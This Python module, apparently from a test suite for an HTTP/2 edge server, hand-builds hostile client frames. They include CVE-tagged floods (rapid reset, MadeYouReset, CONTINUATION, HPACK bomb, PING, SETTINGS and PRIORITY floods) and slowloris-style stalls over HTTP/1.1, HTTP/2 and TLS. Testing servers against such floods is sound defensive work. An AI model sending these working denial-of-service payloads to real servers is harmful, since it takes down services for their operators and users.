"""What hostile clients send: frames of HTTP/2 by hand (RFC 9113, RFC 7541 without Huffman codes).

A `Flood` is sent again and again, over a new connection each time the edge has ended the one before;
a `Stall` opens connections that stop halfway and then owe something.
"""
import dataclasses
import typing

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def string(value):
    if len(value) < 127:
        return bytes((len(value),)) + value
    out, rest = b"\x7f", len(value) - 127
    while rest >= 128:
        out += bytes((rest % 128 + 128,))
        rest //= 128
    return out + bytes((rest,)) + value


def literal(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + string(name) + string(value)


def head(method=b"GET", path=b"/hang"):
    return (literal(b":method", method) + literal(b":scheme", b"http") + literal(b":authority", b"a")
            + literal(b":path", path))


GET, POST = head(), head(b"POST")
HELLO = PREFACE + frame(SETTINGS, 0, 0)
# A request whose body is to come.
OPEN = frame(HEADERS, END_HEADERS, 1, POST)


def request(stream, more=b"", flags=END_STREAM | END_HEADERS, fields=GET):
    return frame(HEADERS, flags, stream, fields + more)


def update(stream, increment):
    return frame(WINDOW, 0, stream, increment.to_bytes(4, "big"))


def reset(stream):
    return frame(RST, 0, stream, (8).to_bytes(4, "big"))


@dataclasses.dataclass
class Flood:
    name: str
    # Frames of one round, by its number, and how many those are.
    round: typing.Callable[[int], bytes]
    frames: int = 1
    first: bytes = b""
    # Rounds on one connection, at most.
    rounds: int = 20_000


@dataclasses.dataclass
class Stall:
    name: str
    first: bytes
    connections: int
    # What is sent again every 20 ms on each connection.
    drip: bytes = b""
    reads: bool = False
    secure: bool = False


def thrash(i):
    return request(2 * i + 1, b"".join(literal(b"x-%d-%d" % (i, n), b"a", True) for n in range(90))) + reset(2 * i + 1)


def bomb(i):
    # One entry of 4 KiB in the table, then thousands of references of one byte.
    return request(2 * i + 1, literal(b"x", b"a" * 4000, True) if i == 0 else b"\xbe" * 8000)


# A request that is reset before its client ends it.
MALFORMED = frame(HEADERS, END_HEADERS, 1, POST + literal(b"connection", b"x"))

FLOODS = [
    Flood("rapid reset (CVE-2023-44487)", lambda i: request(2 * i + 1) + reset(2 * i + 1), 2),
    Flood("resets of one stream (CVE-2019-9514)", lambda i: reset(1), first=OPEN),
    Flood("streams past the bound", lambda i: request(2 * i + 1)),
    Flood("MadeYouReset: zero increment (CVE-2025-8671)", lambda i: request(2 * i + 1) + update(2 * i + 1, 0), 2),
    Flood("MadeYouReset: window overflow", lambda i: request(2 * i + 1) + update(2 * i + 1, 0x7FFFFFFF), 2),
    Flood("MadeYouReset: DATA after the end", lambda i: request(2 * i + 1) + frame(DATA, 0, 2 * i + 1, b"x"), 2),
    Flood("MadeYouReset: HEADERS after the end",
          lambda i: request(2 * i + 1) + frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, literal(b"a", b"b")), 2),
    Flood("MadeYouReset: PRIORITY of 4 bytes",
          lambda i: request(2 * i + 1) + frame(PRIORITY, 0, 2 * i + 1, b"\0\0\0\1"), 2),
    Flood("MadeYouReset: malformed requests", lambda i: request(2 * i + 1, literal(b"connection", b"x"))),
    Flood("MadeYouReset: bodies over their length",
          lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, POST + literal(b"content-length", b"1"))
          + frame(DATA, 0, 2 * i + 1, b"12"), 2),
    Flood("CONTINUATION", lambda i: frame(CONTINUATION, 0, 1, literal(b"a", b"a")),
          first=frame(HEADERS, END_STREAM, 1, GET)),
    Flood("CONTINUATION, empty", lambda i: frame(CONTINUATION, 0, 1), first=frame(HEADERS, END_STREAM, 1, GET)),
    Flood("HPACK bomb", bomb, rounds=400),
    Flood("HPACK table thrash", thrash, 2, rounds=4_000),
    Flood("fields without names (CVE-2019-9516)", lambda i: request(2 * i + 1, b"\0\0\0" * 90), rounds=5_000),
    Flood("HPACK references behind a malformed field",
          lambda i: request(2 * i + 1, literal(b"connection", b"x", True) + b"\xbe" * 8000), rounds=400),
    Flood("HPACK references on a stream that was reset", lambda i: frame(HEADERS, END_HEADERS, 1, b"\x82" * 8000),
          first=MALFORMED, rounds=400),
    Flood("HEADERS on a stream that was reset", lambda i: frame(HEADERS, END_HEADERS, 1, literal(b"a", b"b")),
          first=MALFORMED),
    Flood("PING (CVE-2019-9512)", lambda i: frame(PING, 0, 0, b"12345678")),
    Flood("PING acknowledgements", lambda i: frame(PING, ACK, 0, b"12345678")),
    Flood("SETTINGS (CVE-2019-9515)", lambda i: frame(SETTINGS, 0, 0)),
    Flood("PRIORITY (CVE-2019-9513)", lambda i: frame(PRIORITY, 0, 2 * i + 1, b"\0\0\0\0\x10")),
    Flood("PRIORITY_UPDATE", lambda i: frame(0x10, 0, 0, (2 * i + 1).to_bytes(4, "big") + b"u=1")),
    Flood("WINDOW_UPDATE", lambda i: update(0, 1)),
    Flood("dribbled windows (CVE-2019-9511)", lambda i: update(1, 1),
          first=frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + request(1, fields=head(path=b"/large"))),
    Flood("empty DATA (CVE-2019-9518)", lambda i: frame(DATA, 0, 1), first=OPEN),
    Flood("DATA of padding", lambda i: frame(DATA, PADDED, 1, b"\4\0\0\0\0"), first=OPEN),
    Flood("DATA of one byte", lambda i: frame(DATA, 0, 1, b"a"), first=OPEN),
    Flood("unknown frames", lambda i: frame(0x42, 0, 0, b"x")),
]

_LARGE = b"".join(request(2 * i + 1, fields=head(path=b"/large")) for i in range(100))

STALLS = [
    Stall("zero windows (CVE-2019-9517)", PREFACE + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + _LARGE, 8, reads=True),
    Stall("unread sockets", PREFACE + frame(SETTINGS, 0, 0, b"\0\4\x7f\xff\xff\xff") + update(0, 0x7FFE0000) + _LARGE, 8),
    Stall("slow headers, HTTP/1.1", b"GET / HTTP/1.1\r\nHost: a\r\n", 1_000, drip=b"a"),
    Stall("slow bodies, HTTP/1.1", b"POST /hang HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n", 500, drip=b"a"),
    Stall("slow headers, HTTP/2", HELLO + frame(HEADERS, END_STREAM, 1, GET[:20]), 1_000),
    Stall("slow bodies, HTTP/2", HELLO + OPEN, 500, drip=frame(DATA, 0, 1, b"a")),
    Stall("half-open frames", HELLO + frame(DATA, 0, 1, b"x" * 100)[:50], 1_000),
    Stall("half-open ClientHello", b"\x16\3\1\1\0\1\0", 4_000, secure=True),
]
